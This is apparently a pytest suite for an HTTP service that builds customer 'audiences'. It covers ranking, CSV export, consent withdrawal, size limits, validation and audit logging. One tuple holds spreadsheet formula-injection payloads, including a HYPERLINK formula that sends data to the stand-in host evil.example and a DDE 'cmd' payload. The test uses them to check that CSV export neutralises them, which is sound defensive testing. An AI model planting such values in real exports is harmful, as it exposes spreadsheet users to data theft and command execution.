"""Audiences over HTTP: asked for, followed, fetched, and written down."""

import asyncio
import csv
from collections.abc import AsyncIterator, Mapping
from typing import Any

import httpx
import pytest
from structlog.testing import capture_logs

from portrait.access.scope import Scope
from portrait.events.consent import WITHDRAWN, Consent
from portrait.times import DAY_MS
from tests.support.catalogues import catalogue
from tests.support.fakes import MemoryProfiles
from tests.support.models import learned_model
from tests.support.patience import PATIENCE
from tests.support.shop import NOW_MS, Shop, open_shop
from tests.unit.test_audience import painted
from tests.unit.test_audience import shop as people
from tests.unit.test_service_access import guarded, token_of

CATALOGUE = catalogue()
CHEESE = {"like": {"item_id": "cheese"}, "size": 60}
MILK = {f"milk-{n}" for n in range(60)}


async def shop_of(profiles: MemoryProfiles | None = None) -> Shop:
    shop = Shop(profiles=profiles or people())
    await shop.stock()
    return shop


async def lines(client: httpx.AsyncClient, id: str) -> list[dict[str, Any]]:
    answer = await client.get(f"/audiences/{id}/members")
    assert answer.status_code == 200
    return [httpx.Response(200, content=line).json() for line in answer.text.splitlines()]


async def over(client: httpx.AsyncClient, id: str) -> dict[str, Any]:
    """Follow an audience until it is over."""
    async with asyncio.timeout(PATIENCE):
        while True:
            told: dict[str, Any] = (await client.get(f"/audiences/{id}")).json()
            if told["state"] != "running":
                return told
            await asyncio.sleep(0.05)


async def ready(client: httpx.AsyncClient, body: Mapping[str, object]) -> dict[str, Any]:
    """Ask for an audience, and follow it until it is over."""
    answer = await client.post("/audiences", json=body)
    assert answer.status_code in {201, 202}, answer.text
    told: dict[str, Any] = answer.json()
    assert answer.headers["location"] == f"/audiences/{told['audience_id']}"
    return await over(client, told["audience_id"])


@pytest.mark.parametrize(
    "like",
    [
        {"item_id": "cheese"},
        {"category": "grocery/dairy"},
        {"text": "cheddar"},
    ],
)
async def test_the_people_who_are_like_buyers_are_told_the_best_first(
    like: Mapping[str, object],
) -> None:
    async with open_shop(await shop_of()) as client:
        told = await ready(client, {"like": like, "size": 60})
        members = await lines(client, told["audience_id"])

    assert told["state"] == "ready"
    assert (told["leaders"], told["size"]) == (40, 60)
    assert {member["user_id"] for member in members} == MILK
    scores = [member["score"] for member in members]
    assert scores == sorted(scores, reverse=True)


async def test_named_people_lead_too() -> None:
    named = [f"milk-{n}" for n in range(40)]
    async with open_shop(await shop_of()) as client:
        told = await ready(client, {"like": {"users": named}, "size": 20})
        members = await lines(client, told["audience_id"])

    assert len(members) == 20
    assert {member["user_id"] for member in members}.isdisjoint(named)


async def test_csv_has_the_same_people() -> None:
    profiles = people()
    profiles.records['a "quoted", one'] = profiles.records["milk-1"]
    async with open_shop(await shop_of(profiles)) as client:
        told = await ready(client, {**CHEESE, "size": 61})
        url = f"/audiences/{told['audience_id']}/members"
        answer = await client.get(url, headers={"accept": "text/csv"})
        members = await lines(client, told["audience_id"])

    assert answer.headers["content-type"].startswith("text/csv")
    head, *rows = answer.text.splitlines()
    assert head == "user_id,score"
    assert len(rows) == len(members) == 61
    assert any(row.startswith('"a ""quoted"", one",') for row in rows)


FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A2,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\N{FULLWIDTH EQUALS SIGN}1+1",
    "\t=1+1",  # of before ids were held to anything
)


async def test_no_id_is_a_formula_to_whoever_opens_the_table() -> None:
    profiles = people()
    for each in FORMULAS:
        profiles.records[each] = profiles.records["milk-1"]
    async with open_shop(await shop_of(profiles)) as client:
        told = await ready(client, {**CHEESE, "size": 60 + len(FORMULAS)})
        url = f"/audiences/{told['audience_id']}/members"
        answer = await client.get(url, headers={"accept": "text/csv"})
        members = await lines(client, told["audience_id"])

    rows = [*csv.reader(answer.text.splitlines())][1:]
    assert {*FORMULAS} <= {member["user_id"] for member in members}  # as they are
    assert {f"'{each}" for each in FORMULAS} <= {user for user, _ in rows}
    assert not [user for user, _ in rows if user in FORMULAS]
    named = f'attachment; filename="audience-{told["audience_id"]}.csv"'
    assert answer.headers["content-disposition"] == named


async def test_who_was_erased_or_has_withdrawn_since_is_not_told() -> None:
    shop = await shop_of()
    async with open_shop(shop) as client:
        told = await ready(client, CHEESE)
        await shop.profiles.agree({"milk-3": Consent(1_000, WITHDRAWN.withdrawn)})
        del shop.profiles.records["milk-4"]
        members = await lines(client, told["audience_id"])

    assert {member["user_id"] for member in members} == MILK - {"milk-3", "milk-4"}


async def test_too_few_people_are_refused_in_words() -> None:
    async with open_shop(await shop_of(people(cheese=19))) as client:
        answer = await client.post("/audiences", json=CHEESE)
        if answer.status_code == 202:  # a busy machine
            told = await over(client, answer.json()["audience_id"])
            assert (told["state"], "singles" in told["reason"]) == ("refused", True)
            return

    assert answer.status_code == 409
    assert answer.json()["type"].endswith("audience-too-narrow")
    assert "singles anybody out" in answer.json()["detail"]


@pytest.mark.parametrize(
    ("body", "kind", "words"),
    [
        ({"like": {"category": "Grocery > Dary"}}, "nothing-meant", "`Grocery > Dairy`"),
        ({"like": {"item_id": "caviar"}}, "nothing-meant", "no such item"),
        ({"like": {"text": "zxqv"}}, "nothing-meant", "found"),
        ({**CHEESE, "interest": "Wine"}, "nothing-meant", "nothing in this category"),
        ({**CHEESE, "churn_risk": {"min": 0.5}}, "forecast-missing", "churn_risk"),
        ({"like": {}}, "request-invalid", "one of"),
        ({"like": {"item_id": "milk", "text": "milk"}}, "request-invalid", "one of"),
        ({"like": {"users": ["ann"] * 19}}, "request-invalid", "at least 20"),
        ({**CHEESE, "size": 19}, "request-invalid", "20"),
        ({**CHEESE, "size": 100_001}, "request-invalid", "100000"),
        ({}, "request-invalid", "required"),
    ],
)
async def test_what_means_nothing_is_told_in_words(
    body: Mapping[str, object], kind: str, words: str
) -> None:
    async with open_shop(await shop_of()) as client:
        answer = await client.post("/audiences", json=body)

    assert answer.status_code == 422
    assert answer.json()["type"].endswith(kind)
    assert words in answer.text


async def test_there_is_no_other_audience() -> None:
    async with open_shop(await shop_of()) as client:
        for path in (f"/audiences/{'0' * 32}", f"/audiences/{'0' * 32}/members"):
            answer = await client.get(path)
            assert answer.status_code == 404
            assert answer.json()["type"].endswith("audience-not-found")


class Held(MemoryProfiles):
    """Profiles that are walked over once somebody lets them."""

    def __init__(self) -> None:
        super().__init__()
        self.records = people().records
        self.let = asyncio.Event()

    async def scan(self) -> AsyncIterator[list[str]]:
        """Wait, then yield the users."""
        await self.let.wait()
        async for users in super().scan():
            yield users


async def test_what_takes_longer_is_followed_and_not_told_before_it_is_there() -> None:
    held = Held()
    async with open_shop(await shop_of(held)) as client:
        answer = await client.post("/audiences", json=CHEESE)
        assert (answer.status_code, answer.json()["state"]) == (202, "running")
        id = answer.json()["audience_id"]
        early = await client.get(f"/audiences/{id}/members")
        assert (early.status_code, early.headers["retry-after"]) == (409, "1")

        others = [client.post("/audiences", json=CHEESE) for _ in range(4)]
        statuses = sorted(each.status_code for each in await asyncio.gather(*others))
        assert statuses == [202, 202, 202, 503]

        held.let.set()
        await over(client, id)
        assert {member["user_id"] for member in await lines(client, id)} == MILK


async def test_a_store_that_is_away_fails_it_in_words() -> None:
    held = Held()
    async with open_shop(await shop_of(held)) as client:
        answer = await client.post("/audiences", json=CHEESE)
        held.is_down = True
        held.let.set()
        told = await over(client, answer.json()["audience_id"])

    assert told["state"] == "failed"
    assert told["reason"]


async def test_what_is_asked_for_and_fetched_is_written_down_and_nobody_is_named_in_logs() -> None:
    shop = await shop_of()
    token = token_of(shop, Scope.AUDIENCES_READ)
    async with guarded(shop) as client:
        client.headers["authorization"] = f"Bearer {token}"
        with capture_logs() as logs:
            told = await ready(client, {"like": {"users": sorted(MILK)[:30]}, "size": 20})
            members = await lines(client, told["audience_id"])

    about = [(line.what, line.about, line.status) for line in shop.audit.lines]
    id = told["audience_id"]
    assert about == [
        ("POST /audiences", id, 202),
        ("GET /audiences/{audience_id}/members", f"{id}, 20 people", 200),
    ]
    assert all(line.who.startswith("key ") for line in shop.audit.lines)
    assert not any(user in str(logs) for user in MILK | {each["user_id"] for each in members})


async def test_an_interest_that_is_asked_for_is_had_by_all() -> None:
    async with open_shop(await shop_of()) as client:
        told = await ready(client, {**CHEESE, "size": 1_000, "interest": "grocery > dairy"})
        assert {each["user_id"] for each in await lines(client, told["audience_id"])} == MILK


async def test_the_model_lets_through_whom_it_foretells(monkeypatch: pytest.MonkeyPatch) -> None:
    ten_days_on = NOW_MS / 1_000 + 3_600 + 10 * DAY_MS / 1_000
    monkeypatch.setattr("service.audiences.ask.time", lambda: ten_days_on)
    model = learned_model()
    shop = Shop(profiles=people(records=painted(catalogue(model=model))))
    await shop.stock(model=model)
    likely = {**CHEESE, "churn_risk": {"min": 0.9}, "purchase_intent": {"max": 0.1}}

    async with open_shop(shop) as client:
        told = await ready(client, likely)
        assert told["fitting"] == told["people"] == 160  # log(1 + 10 days): as all are as silent
        unlikely = await client.post("/audiences", json={**CHEESE, "churn_risk": {"max": 0.9}})
        told = unlikely.json()
        if unlikely.status_code == 202:  # a busy machine
            told = await over(client, told["audience_id"])
            assert told["state"] == "refused"
        else:
            assert unlikely.status_code == 409
